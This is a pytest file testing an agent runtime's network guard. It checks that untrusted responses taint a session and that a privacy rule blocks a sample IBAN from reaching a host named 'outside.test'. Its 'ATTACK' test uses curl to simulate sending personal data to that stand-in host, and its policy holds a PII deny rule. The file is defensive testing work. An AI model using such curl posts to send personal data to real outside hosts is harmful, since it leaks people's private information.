"""Labels at the wire: a response taints the session that asked for it, and labelled data does not go where a rule says so."""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from agent_os import AgentOS, Policy
from agent_os.core.label import Integrity
from agent_os.runtime.network import open_guard, serve_loopback
from tests.e2e.network.test_policy import CURL, run
from tests.e2e.network.world import TableResolver, Upstream, response

IBAN = "DE89370400440532013000"
POLICY = """
version: 1
tools: {{"*": {{allow: true}}}}
network_policies:
  all:
    endpoints:
      - {{host: outside.test, port: {port}, local: true, protocol: rest, access: full}}
      - {{host: bank.test, port: {port}, local: true, protocol: rest, access: full}}
privacy: [{{find: "*", to: any, labels: [pii], hosts: [outside.test], do: deny}}]
flow: {{personal_to_untrusted: warn, authority_from_untrusted: warn}}
"""


class Wired:
    """A session with a tool, and its guard."""

    def __init__(self, system: AgentOS, upstream: Upstream, url: str, environment: dict[str, str]) -> None:
        self.system, self.upstream, self.url, self.environment = system, upstream, url, environment

    async def post(self, host: str, body: str) -> str:
        """Post a text with curl; the status."""
        url = f"http://{host}:{self.upstream.port}/x"
        argv = (CURL, "-sS", "-w", "\n%{http_code}", "-H", "Content-Type: text/plain", "-d", body, url)
        return (await run(*argv, env=self.environment))[2]


@pytest.fixture
async def wired(tmp_path: Path) -> AsyncIterator[Wired]:
    upstream = await Upstream(response(b"ok")).start()
    (tmp_path / "ws").mkdir()
    policy = Policy.parse(POLICY.format(port=upstream.port))
    async with AgentOS.open(policy, principal="ana", workspace=tmp_path / "ws", state=tmp_path / "state") as system:
        guard = await open_guard(policy, system.monitor, state=tmp_path / "state", resolver=TableResolver())
        listener, url = await serve_loopback(guard, system.principal)
        system.prompt("".join(f"Post to http://{host}:{upstream.port}/x. " for host in ("outside.test", "bank.test")))
        environment = {**guard.environment(proxy=url), "PATH": os.environ["PATH"]}
        yield Wired(system, upstream, url, environment)
        listener.close()
        await guard.stop()
    await upstream.stop()


async def test_a_response_is_untrusted_text_of_its_host(wired: Wired) -> None:
    """What a program read through the guard, the session has read: from then on its context names the host."""
    flow: Any = wired.system.monitor.session.flow
    assert flow.context.integrity is Integrity.TRUSTED
    assert await wired.post("bank.test", "hello") == "200"
    assert flow.context.integrity is Integrity.UNTRUSTED
    assert any("bank.test" in source for source in flow.context.sources)


async def test_labelled_data_stays_from_the_named_host(wired: Wired) -> None:
    """ATTACK and twin: once a tool has read personal data the host that may not have it gets nothing; another one does."""
    assert await wired.post("outside.test", "hello") == "200"

    def get_record() -> str:
        """Get a record."""
        return json.dumps({"owner": "ana", "iban": IBAN})

    tool = wired.system.guarded(get_record)
    await asyncio.to_thread(tool)
    assert await wired.post("outside.test", f"the account is {IBAN}") == "403"
    assert await wired.post("bank.test", f"the account is {IBAN}") == "200"
    assert wired.upstream.text.count(IBAN.encode()) == 1
